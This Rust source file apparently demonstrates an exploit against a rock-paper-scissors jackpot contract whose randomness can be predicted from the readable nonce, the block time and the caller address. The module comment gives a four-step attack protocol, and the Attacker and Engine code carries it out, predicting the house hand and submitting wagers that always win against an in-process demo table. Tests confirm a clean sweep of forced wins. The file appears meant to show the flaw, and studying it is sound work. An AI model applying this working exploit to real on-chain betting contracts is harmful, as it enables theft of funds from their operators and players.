//! Prediction client for the janken oracle.
//!
//! The table's randomness is a pure function of state any observer can
//! read before transacting: the draw nonce (a fixed storage slot), the
//! block time, and the caller's own address. The attacker protocol is
//! four steps:
//!
//! 1. Read the nonce with a read-only query; no transaction needed.
//! 2. Rerun the oracle formula with that nonce, the current block time,
//!    and the attacker's address to learn the next host hand.
//! 3. Pick the hand that beats it.
//! 4. Submit the wager.
//!
//! Steps 1-3 cost nothing and the chain resolves deterministically, so the
//! wager is forced - unless another transaction consumes the same nonce
//! first. That race does not crash anything; the stale wager still
//! resolves, just without the guarantee.

use anyhow::{anyhow, bail, Result};
use commonware_cryptography::{
    ed25519::{PrivateKey, PublicKey},
    Signer,
};
use commonware_math::algebra::Random;
use janken_execution::{oracle, Contract, FomoTable, Ledger};
use janken_types::{
    execution::{Instruction, Transaction, NONCE_STORAGE_SLOT, STAKE_WEI},
    game::{Hand, Outcome},
};
use rand::SeedableRng;
use rand_chacha::ChaCha20Rng;
use tracing::{debug, info, warn};

/// An adversary with its own key and a copy of the oracle formula.
pub struct Attacker {
    private: PrivateKey,
    public: PublicKey,
}

impl Attacker {
    pub fn new(private: PrivateKey) -> Self {
        let public = private.public_key();
        Self { private, public }
    }

    pub fn address(&self) -> &PublicKey {
        &self.public
    }

    /// Reproduce the oracle's draw for `nonce` at `timestamp`, off-chain.
    pub fn predict(&self, nonce: u64, timestamp: u64) -> Hand {
        oracle::host_hand(nonce, timestamp, &self.public)
    }

    /// Steps 1-3: query the nonce, predict the host hand, counter it.
    /// Returns the signed wager ready for submission.
    pub fn plan<C: Contract>(&self, ledger: &Ledger<C>) -> Result<Transaction> {
        let Some(nonce) = ledger.storage(NONCE_STORAGE_SLOT) else {
            bail!("target does not expose its nonce slot");
        };
        let predicted = self.predict(nonce, ledger.time());
        let hand = predicted.counter();
        debug!(nonce, ?predicted, ?hand, "planned forced wager");

        Ok(Transaction::sign(
            &self.private,
            STAKE_WEI,
            Instruction::Bet { hand },
        ))
    }

    /// The full protocol in one serialized step: with nothing able to land
    /// between plan and submit, the outcome is forced.
    pub fn attack<C: Contract>(&self, ledger: &mut Ledger<C>) -> Result<Outcome> {
        let tx = self.plan(ledger)?;
        let events = ledger
            .submit(tx)
            .map_err(|err| anyhow!("wager rejected: {err:?}"))?;

        events
            .iter()
            .find_map(|event| event.outcome())
            .ok_or_else(|| anyhow!("wager resolved without an outcome event"))
    }
}

/// Configuration for a predictron run.
#[derive(serde::Serialize, serde::Deserialize)]
pub struct Config {
    pub attacks: u64,
    pub seed: u64,
    pub log_level: String,
}

impl Default for Config {
    fn default() -> Self {
        Self {
            attacks: 10,
            seed: 0,
            log_level: "info".into(),
        }
    }
}

/// Tally of one attack run.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Summary {
    pub won: u64,
    pub total: u64,
}

/// Drives repeated attacks against a self-hosted jackpot table.
///
/// The demo target is in-process, but the attacker half only touches what
/// a real adversary has: read-only queries, the block time, and its own
/// key.
pub struct Engine {
    attacker: Attacker,
    ledger: Ledger<FomoTable>,
    attacks: u64,
}

impl Engine {
    pub fn new(config: &Config) -> Self {
        let mut rng = ChaCha20Rng::seed_from_u64(config.seed);
        let owner = PrivateKey::random(&mut rng);
        let attacker = Attacker::new(PrivateKey::random(&mut rng));

        // Fund the house for the worst case of every attack landing a win.
        let mut table = FomoTable::new(owner.public_key());
        let bankroll = config
            .attacks
            .saturating_mul(2)
            .saturating_add(10)
            .saturating_mul(STAKE_WEI);
        table.fund(bankroll);
        let ledger = Ledger::new(table, 1_700_000_000);

        Self {
            attacker,
            ledger,
            attacks: config.attacks,
        }
    }

    pub fn run(mut self) -> Result<Summary> {
        let mut won = 0;
        for attempt in 0..self.attacks {
            // Let the block clock drift between attacks; the prediction
            // re-reads everything each round.
            self.ledger.advance_time(13);

            let outcome = self.attacker.attack(&mut self.ledger)?;
            match outcome {
                Outcome::Won => {
                    won += 1;
                    info!(attempt, "forced win");
                }
                other => warn!(attempt, ?other, "prediction missed"),
            }
        }

        let summary = Summary {
            won,
            total: self.attacks,
        };
        info!(
            won = summary.won,
            total = summary.total,
            house_balance = self.ledger.contract().balance(),
            "attack run complete"
        );
        Ok(summary)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use janken_execution::Table;
    use rand::rngs::StdRng;

    fn keypair(seed: u64) -> PrivateKey {
        let mut rng = StdRng::seed_from_u64(seed);
        PrivateKey::random(&mut rng)
    }

    fn funded_ledger(funds: u64) -> Ledger<Table> {
        let mut table = Table::new(keypair(1).public_key());
        table.fund(funds);
        Ledger::new(table, 1_700_000_000)
    }

    #[test]
    fn test_plan_counters_the_predicted_hand() {
        let ledger = funded_ledger(10 * STAKE_WEI);
        let attacker = Attacker::new(keypair(2));

        let tx = attacker.plan(&ledger).expect("nonce is readable");
        let predicted = attacker.predict(0, ledger.time());
        assert_eq!(
            tx.instruction,
            Instruction::Bet {
                hand: predicted.counter(),
            }
        );
        assert_eq!(tx.value, STAKE_WEI);
        assert!(tx.verify());
    }

    #[test]
    fn test_attack_wins_every_uncontested_trial() {
        let mut ledger = funded_ledger(30 * STAKE_WEI);
        let attacker = Attacker::new(keypair(3));

        for trial in 0..10u64 {
            ledger.advance_time(trial * 7);
            let outcome = attacker.attack(&mut ledger).expect("house is funded");
            assert_eq!(outcome, Outcome::Won, "trial {trial}");
        }
        assert_eq!(ledger.storage(NONCE_STORAGE_SLOT), Some(10));
    }

    #[test]
    fn test_interleaved_wager_spoils_a_stale_plan() {
        let mut ledger = funded_ledger(50 * STAKE_WEI);
        let attacker = Attacker::new(keypair(4));
        let bystander = keypair(5);

        let stale = attacker.plan(&ledger).expect("nonce is readable");
        ledger
            .submit_bet(&bystander, STAKE_WEI, Hand::Scissors)
            .expect("house is funded");

        // The stale wager resolves against the next nonce, so the forced
        // outcome is gone; whatever happens must match a fresh prediction
        // for the consumed nonce.
        let predicted_now = attacker.predict(1, ledger.time());
        let planned_hand = match stale.instruction {
            Instruction::Bet { hand } => hand,
            _ => unreachable!("plan always bets"),
        };
        let events = ledger.submit(stale).expect("house is funded");
        assert_eq!(
            events[0].outcome(),
            Some(planned_hand.versus(predicted_now))
        );
    }

    #[test]
    fn test_engine_reports_a_clean_sweep() {
        let config = Config {
            attacks: 10,
            seed: 42,
            log_level: "debug".into(),
        };
        let summary = Engine::new(&config).run().expect("engine runs");
        assert_eq!(summary, Summary { won: 10, total: 10 });
    }

    #[test]
    fn test_attack_fails_cleanly_on_a_broke_house() {
        let mut ledger = funded_ledger(0);
        let attacker = Attacker::new(keypair(6));
        assert!(attacker.attack(&mut ledger).is_err());
        assert_eq!(ledger.storage(NONCE_STORAGE_SLOT), Some(0));
    }
}
